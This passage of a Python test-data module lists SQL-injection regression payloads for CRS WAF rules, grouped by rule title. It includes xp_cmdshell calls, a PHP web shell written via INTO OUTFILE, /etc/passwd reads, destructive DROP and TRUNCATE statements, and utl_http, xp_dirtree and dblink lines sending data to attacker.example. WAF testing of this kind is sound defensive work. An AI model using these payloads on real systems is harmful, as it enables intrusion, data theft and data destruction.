"""Blind SQL-injection set "sixtieth": the positive regression tests a seventh rule author writes for the CRS
3.3.4 SQL-injection request titles at paranoia levels 1 and 2 (plus four SQLi titles CRS 4.x added), from the
titles alone, with benign requests that carry the same words innocently.

Angle: for each detection title, the canonical attack the title names, then one test per alternative of its
family (every keyword, function, operator, DB name, comment form or dialect: MySQL, MSSQL, PostgreSQL, Oracle,
SQLite, MS Access, MongoDB), then the variants a good rule must still catch (quoting, casing, whitespace and
comment substitutes, concatenation, URL and double-URL encoding, HTML entities, unicode escapes in JSON).
Each payload is written as it appears in real attacks on PHP CMSs, Java apps, Node APIs, CGI scripts and IIS.

Family: sqli only. Sub-families, one per title (kebab-case from the title; the titles CRS merely calls
"SQL Injection Attack" carry their rule id): sqli-libinjection, common-db-names, blind-sleep-benchmark,
benchmark-sleep-conditional, mssql-code-exec-info-gathering, integer-overflow-magic-number, conditional-sqli,
mysql-charset-switch-mssql-dos, match-against-merge-execute-immediate, basic-union-select-from,
pg-sleep-waitfor-shutdown, mongodb-injection, stored-procedure-function-injection,
mysql-udf-data-structure-manipulation, concatenated-sqli-sqllfi, mysql-inline-comment, common-injection-testing,
sql-operator, sql-tautology, sql-injection-attack-942150, auth-bypass-1-of-3,
mysql-comment-space-obfuscation-backtick, chained-sqli-1-of-2, auth-bypass-2-of-3, mysql-comments-conditions-char,
chained-sqli-2-of-2, classic-probing-1-of-3, auth-bypass-3-of-3, keyword-alter-union, classic-probing-2-of-3,
sql-injection-attack-942380/942390/942400/942410/942470/942480, restricted-special-chars, sql-comment-sequence,
sql-hex-encoding, ticks-backticks-bypass, and the 4.x titles json-based-sqli, mysql-scientific-notation,
auth-bypass-split-query, auth-bypass-4-of-4.

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
form of /admin/users/search (with csrf_token), the JSON of /api/users, a cookie, the User-Agent, the Referer,
another header (X-Api-Filter), a parameter name, an XML body, a multipart field or filename, and the URL path.
Once the way a WAF's regression suite sends it ("rs-" placements): to paths that are not our routes (/,
/index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var,
x, test, id, arg1), as a query string, a form body, a JSON body, an XML body, a raw form-typed body that is not
key=value, the User-Agent, the Referer, a custom header or a cookie. Pre-encoded payloads (URL, double URL)
go where a server URL-decodes; JSON-escaped ones and whole JSON documents go in JSON bodies; whole query strings
(MongoDB operator names) go in a query or a form body.

Authorship and independence: written from general knowledge of SQL injection and the rule titles alone; no
rule, engine code, ruleset regression test, other blind set or public payload list was read. Measured once on
unchanged code; payloads were not changed after seeing the results. Deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, prose_request
from .records import numbered, print_records

NAME = "sixtieth"

ENC = "enc"   # already URL-encoded on the wire (URL or double URL): goes where a server URL-decodes
JU = "ju"     # JSON string content with \\u escapes: goes inside a JSON body verbatim
QS = "qs"     # a whole query string / form body as the attacker sends it
DOC = "doc"   # a whole JSON document as the attacker sends it

Entry = str | tuple[str, str]

TITLES: list[tuple[str, list[Entry]]] = [
    # 942100 PL1: SQL Injection Attack Detected via libinjection
    ("sqli-libinjection", [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "admin'--",
        "1; DROP TABLE users--",
        "' AND 1=CONVERT(int,@@version)--",
        "1' AND extractvalue(1,concat(0x7e,version()))-- -",
        "-1 OR 2>1",
        "' UNION ALL SELECT NULL,NULL,NULL--",
        "1' ORDER BY 3--+",
        "x' AND SUBSTRING(@@version,1,1)='5",
        "1/**/UnIoN/**/SeLeCt/**/1,2,3",
        (ENC, "%27%20OR%201%3D1--"),
        (ENC, "1%2527%2520OR%2520%25271%2527%253D%25271"),
        (JU, "\\u0027 OR 1=1-- -"),
        "&#39; OR &#39;1&#39;=&#39;1",
    ]),
    # 942140 PL1: SQL Injection Attack: Common DB Names Detected
    ("common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables--",
        "' UNION SELECT user,authentication_string FROM mysql.user#",
        "1 AND (SELECT COUNT(*) FROM mysql.db)>0",
        "' UNION SELECT name FROM master..sysdatabases--",
        "1; SELECT * FROM msdb.dbo.backupset--",
        "' UNION SELECT usename,passwd FROM pg_catalog.pg_shadow--",
        "1 UNION SELECT chunk_data FROM pg_toast.pg_toast_2619--",
        "' UNION SELECT Name FROM MSysObjects WHERE Type=1--",
        "1 UNION SELECT 1 FROM MSysAccessObjects",
        "' UNION SELECT * FROM tempdb..sysobjects--",
        "1 UNION SELECT CompanyName FROM northwind.dbo.Customers",
        "1 union select schema_name from INFORMATION_SCHEMA.SCHEMATA",
        "1 union select column_name from information_schema/**/./**/columns",
        (ENC, "1%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables"),
        (JU, "1 union select host from mysql\\u002euser"),
    ]),
    # 942160 PL1: Detects blind sqli tests using sleep() or benchmark()
    ("blind-sleep-benchmark", [
        "1 AND SLEEP(5)",
        "' OR sleep(10)#",
        "1' AND BENCHMARK(5000000,MD5(1))--",
        "(SELECT * FROM (SELECT(SLEEP(5)))a)",
        "1 and sleep (5)",
        "1 and sleep/**/(5)",
        "SlEeP(3)",
        "benchmark(10000000,sha1('x'))",
        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
        "\";SELECT SLEEP(5);--",
        "1 RLIKE SLEEP(5)",
        (ENC, "1%20AND%20SLEEP%285%29"),
        (ENC, "1%2520AND%2520SLEEP%25285%2529"),
        (JU, "1\\u0027 AND SLEEP(5)-- -"),
    ]),
    # 942170 PL1: Detects SQL benchmark and sleep injection attempts including conditional queries
    ("benchmark-sleep-conditional", [
        "1 AND IF(1=1,SLEEP(5),0)",
        "' AND IF(SUBSTRING(user(),1,1)='r',BENCHMARK(5000000,MD5('a')),0)--",
        "1 UNION SELECT IF(1,SLEEP(3),1)",
        "SELECT BENCHMARK(1000000,ENCODE('a','b'))",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)",
        "'; SELECT IF(ASCII(SUBSTR(database(),1,1))>100, SLEEP(5), 0)-- ",
        "1 OR IF(LENGTH(database())=5,SLEEP(4),1)",
        "1 and (select case when 1=1 then sleep(5) else 0 end)",
        "1 and if(1=1,benchmark(1e7,md5(1)),0)",
        ";select sleep(5)#",
        "1 AND (SELECT * FROM (SELECT(SLEEP(5-(IF(1=1,0,5)))))abc)",
        "1 aNd iF(1=1,sLeEp(5),0)",
        (ENC, "1%27%20AND%20IF%281%3D1%2CSLEEP%285%29%2C0%29--%20-"),
        (JU, "1\\u0027 and if(1=1,sleep(5),0)#"),
    ]),
    # 942190 PL1: Detects MSSQL code execution and information gathering attempts
    ("mssql-code-exec-info-gathering", [
        "'; EXEC xp_cmdshell 'whoami'--",
        "1; exec master..xp_cmdshell 'ping 10.0.0.1'--",
        "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE--",
        "1 UNION SELECT @@version--",
        "'; EXEC master.dbo.xp_dirtree '\\\\attacker.example\\x'--",
        "1;EXEC sp_oacreate 'wscript.shell',@o OUT--",
        "1 AND 1=(SELECT db_name())--",
        "' UNION SELECT user_name(),system_user,@@servername--",
        "'; exec('sel'+'ect 1')--",
        "';EXECUTE xp_cmdshell 'net user'--",
        "1;exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select * from users'--",
        "1 UNION SELECT host_name()--",
        "' union select name from sysobjects where xtype='U'--",
        (ENC, "%27%3B%20EXEC%20xp_cmdshell%20%27dir%27--"),
        (JU, "1; EXEC xp\\u005fcmdshell \\u0027ipconfig\\u0027--"),
    ]),
    # 942220 PL1: Looking for integer overflow attacks (skipfish; 3.0.00738585072007e-308 the magic number)
    ("integer-overflow-magic-number", [
        "2147483647",
        "2147483648",
        "-2147483648",
        "-2147483649",
        "4294967295",
        "4294967296",
        "1e309",
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "-0000023456",
        "0000012345",
        "9223372036854775808",
        "18446744073709551616",
    ]),
    # 942230 PL1: Detects conditional SQL injection attempts
    ("conditional-sqli", [
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1",
        "' OR (SELECT CASE WHEN (username='admin') THEN 1 ELSE 1/0 END FROM users)='1",
        "1' AND IF(1=1,'a','b')='a",
        "1 AND IIF(1=1,1,0)=1",
        "' || (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE '' END FROM dual) || '",
        "1 AND DECODE(SUBSTR(user,1,1),'S',1,0)=1",
        "1 ORDER BY (CASE WHEN 1=1 THEN 1 ELSE 2 END)",
        "1) AND ELT(1=1,1)",
        "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
        "1,(select case when 1=1 then 1 else 1*(select 1 union select 2) end)",
        "x' aNd (cAsE wHeN 1=1 tHeN 1 eLsE 0 eNd)='1",
        (ENC, "1%20AND%20%28CASE%20WHEN%20%281%3D1%29%20THEN%201%20ELSE%200%20END%29%3D1"),
        (JU, "x\\u0027 AND IF(1=1,1,0)=\\u00271"),
    ]),
    # 942240 PL1: Detects MySQL charset switch and MSSQL DoS attempts
    ("mysql-charset-switch-mssql-dos", [
        "'; ALTER TABLE users CONVERT TO CHARACTER SET latin1--",
        "1; alter database shop character set gbk",
        "'; ALTER TABLE accounts MODIFY name VARCHAR(99) CHAR SET gbk#",
        "'; WAITFOR DELAY '0:0:10'--",
        "'; waitfor time '23:59:59'--",
        "\";WAITFOR DELAY '00:00:05'--",
        "';;waitfor delay '0:0:5'--",
        "';x:goto x--",
        "1;SET NAMES gbk;--",
        "'; alter table t charset utf8mb4#",
        "`; WAITFOR DELAY '0:0:3'--",
        (ENC, "%bf%27%20OR%201%3D1--"),
        (ENC, "%27%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--"),
    ]),
    # 942250 PL1: Detects MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    ("match-against-merge-execute-immediate", [
        "' UNION SELECT * FROM posts WHERE MATCH(body) AGAINST('+admin' IN BOOLEAN MODE)--",
        "1 AND MATCH(title,body) AGAINST('x')",
        "1 or match (a) against ('b' with query expansion)",
        "'; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "1; merge users using (select 1 x) s on 1=1 when not matched then insert values(1);",
        "'; EXECUTE IMMEDIATE 'DROP TABLE users'; END;--",
        "1||(EXECUTE IMMEDIATE 'GRANT DBA TO scott')",
        "BEGIN EXECUTE IMMEDIATE 'select 1 from dual'; END;",
        "'; execute  immediate 'alter user sys identified by x'--",
        "1 AND MATCH/**/(x)/**/AGAINST/**/('y')",
        "'; merge into accounts a using (select 1 id from dual) b on (a.id=b.id) "
        "when matched then update set a.balance=0--",
        (ENC, "1%20AND%20MATCH%28a%29%20AGAINST%28%27b%27%29"),
        (JU, "\\u0027; EXECUTE IMMEDIATE \\u0027TRUNCATE TABLE audit\\u0027; END;--"),
    ]),
    # 942270 PL1: Looking for basic sql injection. Common attack string for mysql, oracle and others
    ("basic-union-select-from", [
        "1 UNION SELECT username FROM users",
        "' union select 1,2,3 from dual--",
        "-1 UNION ALL SELECT password FROM admin",
        "x' UnIoN SeLeCt null FrOm dual--",
        "1 union distinct select table_name from information_schema.tables",
        "1 /*!UNION*/ /*!SELECT*/ 1 FROM x",
        "1 union(select(pass)from(users))",
        "1 UNION\tSELECT\tcard\tFROM\tpayments",
        "' UNION SELECT banner FROM v$version--",
        "0 union select name,1 from sqlite_master",
        (ENC, "1%0Aunion%0Aselect%0Auser%0Afrom%0Amysql.user"),
        (ENC, "1+union+select+login+from+members"),
        (ENC, "1%2520union%2520select%2520x%2520from%2520y"),
        (JU, "\\u0027 union select secret from api_keys--"),
    ]),
    # 942280 PL1: Detects Postgres pg_sleep injection, waitfor delay attacks and database shutdown attempts
    ("pg-sleep-waitfor-shutdown", [
        "1; SELECT pg_sleep(10)--",
        "' AND 1=(SELECT 1 FROM pg_sleep(5))--",
        "1 || pg_sleep(5)",
        "';SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
        "1; WAITFOR DELAY '0:0:5'--",
        "1 waitfor delay '00:00:10'",
        "'; SHUTDOWN WITH NOWAIT--",
        "1; shutdown--",
        "';shutdown;--",
        "1 AND pg_sleep_for('5 seconds') IS NULL",
        "1 and pg_sleep/**/(5)",
        "1);SELECT PG_SLEEP(5)--",
        (ENC, "1%3B%20SELECT%20pg_sleep%2810%29--"),
        (JU, "\\u0027; WAITFOR DELAY \\u00270:0:5\\u0027--"),
    ]),
    # 942290 PL1: Finds basic MongoDB SQL injection attempts
    ("mongodb-injection", [
        (QS, "username[$ne]=toto&password[$ne]=toto"),
        (QS, "user[$gt]=&pass[$gt]="),
        (QS, "login[$regex]=^adm&pass[$ne]=1"),
        (QS, "role[$nin][]=user"),
        (QS, "user[$exists]=true"),
        (QS, "q[$where]=sleep(5000)"),
        (QS, "filter%5B%24ne%5D=1"),
        (DOC, '{"username": {"$ne": null}, "password": {"$ne": null}}'),
        (DOC, '{"username": "admin", "password": {"$gt": ""}}'),
        (DOC, '{"$where": "this.password.length > 0 || sleep(5000)"}'),
        (DOC, '{"email": {"$regex": ".*"}, "token": {"$exists": true}}'),
        (DOC, '{"username": {"\\u0024ne": null}}'),
        "' || '1'=='1",
        "1'; return true; var x='1",
        "db.users.find({$where: 'sleep(5000)'})",
    ]),
    # 942320 PL1: Detects MySQL and PostgreSQL stored procedure/function injections
    ("stored-procedure-function-injection", [
        "1; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE 'c' STRICT;--",
        "'; DO $$BEGIN PERFORM pg_sleep(1); END$$;--",
        "1; CREATE PROCEDURE p() BEGIN SELECT 1; END--",
        "'; CALL mysql.rds_kill(1)--",
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
        "'; COPY (SELECT '') TO PROGRAM 'id'--",
        "'; CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.role='admin'--",
        "1; DROP FUNCTION IF EXISTS f;--",
        "'; CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ BEGIN NULL; END $$ LANGUAGE plpgsql;--",
        "1 AND (SELECT dblink_connect('host=attacker.example user=x'))=''",
        "1;select pg_read_file('/etc/passwd',0,100)--",
        "'; select lo_import('/etc/passwd')--",
        (ENC, "1%3B%20CALL%20sys.ps_setup_enable_thread%281%29--"),
        (JU, "\\u0027; DO $$BEGIN RAISE NOTICE \\u0027x\\u0027; END$$;--"),
    ]),
    # 942350 PL1: Detects MySQL UDF injection and other data/structure manipulation attempts
    ("mysql-udf-data-structure-manipulation", [
        "'; CREATE FUNCTION sys_exec RETURNS integer SONAME 'lib_mysqludf_sys.so'--",
        "1; SELECT sys_eval('id')--",
        "'; INSERT INTO users(name,role) VALUES('x','admin')--",
        "1; UPDATE users SET password='x' WHERE id=1--",
        "'; DELETE FROM sessions--",
        "1; DROP TABLE users--",
        "';TRUNCATE TABLE logs--",
        "'; ALTER TABLE users ADD COLUMN x INT--",
        "1; CREATE TABLE pwn(a text)--",
        "'; RENAME TABLE users TO u2--",
        "1;LOAD DATA INFILE '/etc/passwd' INTO TABLE t--",
        "' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'--",
        "1; REPLACE INTO config VALUES('debug','1')--",
        "';select a from t into dumpfile '/usr/lib/mysql/plugin/udf.so'--",
        (ENC, "1%3B%20UPDATE%20users%20SET%20role%3D%27admin%27--"),
    ]),
    # 942360 PL1: Detects concatenated basic SQL injection and SQLLFI attempts
    ("concatenated-sqli-sqllfi", [
        "' UNION SELECT LOAD_FILE('/etc/passwd')--",
        "1 union select load_file(0x2f6574632f706173737764)",
        "1' AND LOAD_FILE('/var/www/html/config.php') IS NOT NULL--",
        "9; delete from orders",
        "'; select * from users",
        "0' alter user root identified by 'x'",
        "1) ; create table t(x int)",
        "\"; truncate table logs",
        "1 ; grant all privileges on *.* to 'x'@'%'",
        "'); shutdown",
        "1; insert into admins values(1)",
        "'||(select load_file('/etc/hosts'))||'",
        (ENC, "1%27%20union%20select%20load_file%28%27%2Fetc%2Fpasswd%27%29--"),
        (JU, "\\u0022; select password from users"),
    ]),
    # 942500 PL1: MySQL in-line comment detected
    ("mysql-inline-comment", [
        "1 /*!UNION*/ SELECT 1",
        "/*!50000SELECT*/ 1",
        "1'/*!12345AND*/1=1-- -",
        "/*!union*//*!select*/1,2",
        "1 /*!00000OR*/ 1",
        "1/*!32302 AND 1=1*/",
        "/*!SLEEP(5)*/",
        "' /*!40000 ORDER BY 3*/--",
        "1 /*!and*/ /*!1=1*/",
        "1/*!*/union/*!*/select/*!*/2",
        "/*!50000%55nIoN*/ /*!50000%53eLeCt*/ 1",
        (ENC, "1%20%2F%2A%21UNION%2A%2F%20SELECT%201"),
        (JU, "1 /*!UNION*/ SELECT \\u0027a\\u0027"),
    ]),
    # 942110 PL2: SQL Injection Attack: Common Injection Testing Detected
    ("common-injection-testing", [
        "'",
        "\"",
        "`",
        "';",
        "admin'",
        "test\"",
        "1'",
        "''",
        "'--",
        " ' ",
        (ENC, "%27"),
        (ENC, "%2527"),
        (ENC, "1%22"),
        "&#39;",
        (JU, "\\u0027"),
    ]),
    # 942120 PL2: SQL Injection Attack: SQL Operator Detected
    ("sql-operator", [
        "1 XOR 1",
        "1' RLIKE '^a",
        "name REGEXP '^adm'",
        "1' REGEXP BINARY 'A",
        "a' SOUNDS LIKE 'b",
        "1 <=> 1",
        "x' or name is null--",
        "1 NOT BETWEEN 0 AND 5",
        "2 DIV 1",
        "1' && '1'='1",
        "1 <> 2",
        "1 AND id IN (1,2,3)",
        "1' LIKE NULL--",
        (ENC, "1%20xor%201"),
        (JU, "1\\u0027 \\u0026\\u0026 \\u00271\\u0027=\\u00271"),
    ]),
    # 942130 PL2: SQL Injection Attack: SQL Tautology Detected
    ("sql-tautology", [
        "' OR 1=1--",
        "\" or \"a\"=\"a",
        "') OR ('x'='x",
        "1 OR 2>1",
        "admin' or 'abc' LIKE 'abc",
        "1 or 1<>2",
        "' or 3!=4--",
        "x' OR 'b' RLIKE 'b",
        "1 OR 5>=4",
        "' OR 'a' REGEXP 'a",
        "1) or (2=2",
        "' or `x`=`x`--",
        (ENC, "%27%20or%20%271%27%3D%271"),
        (JU, "\\u0027 OR \\u0027a\\u0027=\\u0027a"),
    ]),
    # 942150 PL2: SQL Injection Attack (SQL function names)
    ("sql-injection-attack-942150", [
        "1 AND ascii(substring(user(),1,1))>64",
        "' AND length(database())>3--",
        "1 UNION SELECT group_concat(username) FROM users",
        "' AND substr(version(),1,1)='8",
        "1 OR char(65)='A'",
        "' and hex(user())>0--",
        "1 AND sqlite_version()>0",
        "' AND typeof(1)='integer",
        "1 AND randomblob(100000000)",
        "' AND load_extension('x')--",
        "' and unicode(substr(sqlite_version(),1,1))>0--",
        "1 AND coalesce(NULL,user()) IS NOT NULL",
        "' AND soundex('a')='A000",
        "1 and floor(rand(0)*2)",
        (ENC, "1%20AND%20ascii%28substring%28user%28%29%2C1%2C1%29%29%3E64"),
    ]),
    # 942180 PL2: Detects basic SQL authentication bypass attempts 1/3
    ("auth-bypass-1-of-3", [
        "' or 'x'--",
        "' OR ''='",
        "\" or \"\"=\"",
        "' like '%",
        "admin' #",
        "' and 1=1 group by name having 1=1--",
        "' or true--",
        "admin\"/*",
        "' or 1#",
        "1' or '1'='1'/*",
        "x' AND 1 LIKE 1--",
        "'=''or'",
        (ENC, "admin%27%20or%201%23"),
        (JU, "admin\\u0027 or 1--"),
    ]),
    # 942200 PL2: Detects MySQL comment-/space-obfuscated injections and backtick termination
    ("mysql-comment-space-obfuscation-backtick", [
        "1'/**/OR/**/1=1#",
        "id` desc,(select 1)#",
        "name`,`password` FROM users#",
        "'/**/union/**/select/**/1--",
        "1'/*foo*/and/*bar*/'1'='1",
        "1,/*!*/(SELECT 1)",
        "1'\tOR\t1=1",
        "1`) or 1=1 -- ",
        "1'/**/or/**/'1'/**/=/**/'1",
        (ENC, "1%27%0bOR%0b1%3D1"),
        (ENC, "1%27%a0or%a0%271%27%3D%271"),
        (ENC, "admin%27%0aor%0a%271%27%3D%271"),
        (ENC, "1%27%2F%2A%2A%2Fand%2F%2A%2A%2F1%3D1%23"),
    ]),
    # 942210 PL2: Detects chained SQL injection attempts 1/2
    ("chained-sqli-1-of-2", [
        "1; SELECT * FROM users",
        "1'; UPDATE users SET role='admin' WHERE name='me'--",
        "1 AND (SELECT 1)=1; DELETE FROM t",
        "1 || (SELECT password FROM users LIMIT 1)",
        "1 && (select 1 from dual)",
        "1 or (select substring(password,1,1) from users)='a'",
        "(select(0)from(select(sleep(0)))v)/*'+(select(0)from(select(sleep(0)))v)+'\"+"
        "(select(0)from(select(sleep(0)))v)+\"*/",
        "'; insert into log values(1)--",
        "x' and (select count(*) from users)>0 and 'a'='a",
        "1 xor (select 1)",
        "';create table x(y int)--",
        (ENC, "1%3B%20SELECT%20%2A%20FROM%20users"),
        (JU, "1\\u0027; DELETE FROM carts--"),
    ]),
    # 942260 PL2: Detects basic SQL authentication bypass attempts 2/3
    ("auth-bypass-2-of-3", [
        "' or 'a'='a",
        "\" OR \"1\"=\"1",
        "admin' AND 'x'='x",
        "') OR 1=1--",
        "' OR username LIKE 'adm%",
        "1' XOR 'a'='b",
        "' OR 1 IN (1)--",
        "'OR'1'='1",
        "' || 'a'='a",
        "'-'",
        "' or 0=0 #",
        "\" or 0=0 --",
        "'=0--+",
        (ENC, "%27OR%271%27%3D%271"),
        (JU, "\\u0027 or \\u0027a\\u0027=\\u0027a"),
    ]),
    # 942300 PL2: Detects MySQL comments, conditions and ch(a)r injections
    ("mysql-comments-conditions-char", [
        "1' AND CHAR(97)=CHAR(97)--",
        "' UNION SELECT CHAR(117,115,101,114)#",
        "1 OR CHR(65)||CHR(66)='AB'",
        "' AND 1=1#",
        "1)#",
        "admin'#",
        "' OR ASCII(CHAR(65))=65#",
        "1 and if(char(49)=1,1,0)#",
        "1' AND MID(user(),1,1)=CHAR(114)#",
        "\" or char(39)=char(39)#",
        "1 and concat(char(60),char(63))#",
        (ENC, "1%27%20and%20char%2897%29%3Dchar%2897%29%23"),
        (JU, "1\\u0027 or chr(65)=\\u0027A\\u0027#"),
    ]),
    # 942310 PL2: Detects chained SQL injection attempts 2/2
    ("chained-sqli-2-of-2", [
        "'); DROP TABLE users;--",
        "1); EXEC('SELECT 1')--",
        "\"); delete from users where (\"1\"=\"1",
        "')) UNION SELECT 1,2--",
        "'; begin declare @x varchar(99); end--",
        "1)) or ((1=1",
        "'),(SELECT password FROM users))--",
        "1');select pg_sleep(1)--",
        "`); truncate logs;#",
        "'||(select 1 from dual)||'",
        "x'),('y",
        (ENC, "%27%29%3B%20DROP%20TABLE%20users%3B--"),
        (JU, "\\u0027); DROP TABLE sessions;--"),
    ]),
    # 942330 PL2: Detects classic SQL injection probings 1/3
    ("classic-probing-1-of-3", [
        "' or 1",
        "\" and 1",
        "'xor'1",
        "\\x27 or 1=1",
        "admin\\x27--",
        "name\\x3d1",
        "a'",
        "x' like 1",
        "1' between 1 and 2",
        "' div 1",
        "'&&1",
        "test' and 'a",
        (ENC, "%27%20or%201"),
        (JU, "\\u0022 and 1"),
    ]),
    # 942340 PL2: Detects basic SQL authentication bypass attempts 3/3
    ("auth-bypass-3-of-3", [
        "' or 'a'='a' --",
        "admin') --",
        "' or 1=1 limit 1 -- -+",
        "\") or (\"a\"=\"a",
        "1' or '1'='1' --",
        "') or ('1'='1'--",
        "'-0-'",
        "'*'",
        "'^'",
        "x' or name like '%",
        "' union select 1,'admin','81dc9bdb52d04dc20036dbd8313ed055'--",
        "1' or 1=1 order by 1#",
        (ENC, "admin%27%29%20--"),
        (JU, "\\u0027 or 1=1 limit 1#"),
    ]),
    # 942361 PL2: Detects basic SQL injection based on keyword alter or union
    ("keyword-alter-union", [
        "1 union select 1",
        "' union all select null--",
        "') UNION SELECT @@version--",
        "-1 UNION SELECT 1,2",
        "1 alter table users drop column x",
        "'; alter user sa with password='x'--",
        "\" UNION SELECT",
        "9999 UnIoN sElEcT",
        "1\tunion select 2",
        "((union select 1))",
        "0 ALTER DATABASE shop",
        (ENC, "1%20UNION%20ALL%20SELECT%201"),
        (JU, "\\u0027 union select 1"),
    ]),
    # 942370 PL2: Detects classic SQL injection probings 2/3
    ("classic-probing-2-of-3", [
        "'*'1",
        "1'*1*'",
        "'))--",
        "');#",
        "'+(select 1)+'",
        "' || 'x' --",
        "'-1-'",
        "\") or 1--",
        "' or x=1",
        "'=';",
        "\"*1#",
        (ENC, "%27%2B%28select%201%29%2B%27"),
        (JU, "\\u0027))--"),
    ]),
    # 942380 PL2: SQL Injection Attack (having, exists, execute, order by, top)
    ("sql-injection-attack-942380", [
        "1 HAVING 1=1",
        "' GROUP BY id HAVING 1=1--",
        "1 and exists (select 1)",
        "1 ORDER BY 10--",
        "'; EXECUTE sp_who--",
        "1; execute('x')",
        "' UNION SELECT TOP 1 name FROM sysobjects--",
        "1 GROUP BY 1,2,3--",
        "' having '1'='1",
        "1 AND EXISTS(SELECT * FROM admin)",
        "x' order by 1 desc--",
        "select top 1 password from users",
        (ENC, "1%20HAVING%201%3D1"),
        (JU, "\\u0027 GROUP BY 1 HAVING 1=1--"),
    ]),
    # 942390 PL2: SQL Injection Attack (or/xor/and followed by a comparison)
    ("sql-injection-attack-942390", [
        "x or 1=1",
        "1 or 'a'='a'",
        "a' or 2>1",
        "1 and 5=5",
        "foo xor 1=1",
        "1 OR 'x'<'y'",
        "q and 'b'>'a'",
        "1 or 9<>8",
        "x OR 1 = 1",
        "z OR 3 >= 2",
        "1 AnD 1=1",
        (ENC, "x%20or%201%3D1"),
        (JU, "x or \\u0027a\\u0027=\\u0027a\\u0027"),
    ]),
    # 942400 PL2: SQL Injection Attack (and followed by a number, quote or parenthesis)
    ("sql-injection-attack-942400", [
        "1 and 1",
        "x and '1'",
        "1 AND (1)",
        "5 and 5=5",
        "q AND(select 1)",
        "a and 2>1",
        "x AND \"y\"",
        "1 and'x'='x",
        "x and 0<1",
        "1 aNd 'ab'",
        (ENC, "1%20and%201"),
        (ENC, "1%2520and%25201"),
        (JU, "x and \\u00271\\u0027"),
    ]),
    # 942410 PL2: SQL Injection Attack (the long list of SQL functions)
    ("sql-injection-attack-942410", [
        "1 AND extractvalue(1,concat(0x7e,(select user())))",
        "' AND updatexml(1,concat(0x7e,database()),1)--",
        "1 union select load_file('/etc/passwd')",
        "1 or pg_read_file('/etc/passwd') is not null",
        "' || pg_ls_dir('.')--",
        "1 AND (SELECT current_setting('is_superuser'))='on'",
        "' AND name_const(version(),1)--",
        "' AND from_base64('c2VsZWN0')--",
        "1 AND hextoraw('41') IS NOT NULL",
        "1 and (select row_to_json(users) from users limit 1) is not null",
        "1 and connection_id()>0",
        "' AND make_set(1,user())--",
        "1 and geometrycollection((select * from(select * from(select user())a)b))",
        "1 AND md5(1)",
        (ENC, "1%20AND%20extractvalue%281%2Cconcat%280x7e%2Cuser%28%29%29%29"),
    ]),
    # 942470 PL2: SQL Injection Attack (MSSQL extended procedures, Oracle packages)
    ("sql-injection-attack-942470", [
        "'; EXEC xp_cmdshell 'dir c:\\'--",
        "1; EXEC master..xp_dirtree '//attacker.example/a'--",
        "'; EXEC xp_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\\x','y','REG_SZ','z'--",
        "1 UNION SELECT * FROM OPENROWSET('SQLOLEDB','server=attacker';'sa';'x','select 1')--",
        "'; SELECT * FROM OPENQUERY(linked,'select 1')--",
        "1; EXEC sp_executesql N'SELECT 1'--",
        "'; EXEC sp_addextendedproc 'xp_x','x.dll'--",
        "1 AND utl_http.request('http://attacker.example/'||user) IS NOT NULL--",
        "'||utl_file.fopen('/tmp','x','w')||'",
        "' AND 1=(SELECT COUNT(*) FROM dba_users)--",
        "1; exec xp_servicecontrol 'start','schedule'--",
        "'; EXEC sp_password--",
        "1 AND 1=CONVERT(nvarchar,@@version)--",
        (ENC, "1%3B%20EXEC%20xp_cmdshell%20%27whoami%27--"),
    ]),
    # 942480 PL2: SQL Injection Attack (select..from, into outfile, insert into, delete from, dbms_, utl_inaddr)
    ("sql-injection-attack-942480", [
        "1 and (select count(password) from users)>0",
        "select length(pass) from users",
        "'; insert into users values('x')--",
        "' inner join admins on 1=1--",
        "x' into outfile '/tmp/x'--",
        "'; delete from logs--",
        "1 and dbms_pipe.receive_message('a',5)=1",
        "' and utl_inaddr.get_host_name((select user from dual))--",
        "select sys_context('userenv','db_name') from dual",
        "1; load data local infile '/etc/passwd' into table t",
        "select top 5 name from sysobjects",
        "1 group by x having 1",
        "select column_name from cols where data_type='VARCHAR2'",
        (ENC, "1%20union%20select%201%20into%20outfile%20%27%2Ftmp%2Fa%27"),
    ]),
    # 942430 PL2: Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (12)
    ("restricted-special-chars", [
        "'))))))))))))--",
        "1'\"`;)(*&^%$#@!~",
        "((((((((((((1))))))))))))",
        "';;;;;;;;;;;;;--",
        "a'b'c'd'e'f'g'h'i'j'k'l'm'n'",
        "!@#$%^&*()_+{}|:<>?~`-=[]",
        "1'||'2'||'3'||'4'||'5'||'6'",
        "x=1&&(y)||[z]:{w};\"v\"<u>",
        "@@@@@@@@@@@@@",
        "'´’‘'´’‘'´’‘'´",
        "~~~~~~~~~~~~~~",
        (ENC, "%27%22%28%29%3B%3C%3E%7B%7D%5B%5D%7C%26%21%40"),
    ]),
    # 942440 PL2: SQL Comment Sequence Detected
